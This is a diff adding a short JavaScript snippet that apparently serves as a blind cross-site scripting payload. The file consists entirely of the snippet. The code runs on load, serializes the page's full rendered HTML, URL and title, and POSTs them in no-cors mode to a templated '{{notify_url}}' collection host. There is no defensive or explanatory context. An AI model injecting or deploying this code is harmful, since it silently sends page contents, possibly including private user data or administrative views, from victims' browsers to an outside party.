@@ -0,0 +1,10 @@
+// Uploads the rendered DOM as a `dom.html` attachment.
+(function () {
+  var notify = {{notify_url}};
+  var html = "<!DOCTYPE html>\n" + document.documentElement.outerHTML;
+  var data = new FormData();
+  data.append("url", location.href);
+  data.append("title", document.title);
+  data.append("dom", new Blob([html], { type: "text/html" }), "dom.html");
+  fetch(notify, { method: "POST", mode: "no-cors", body: data });
+})();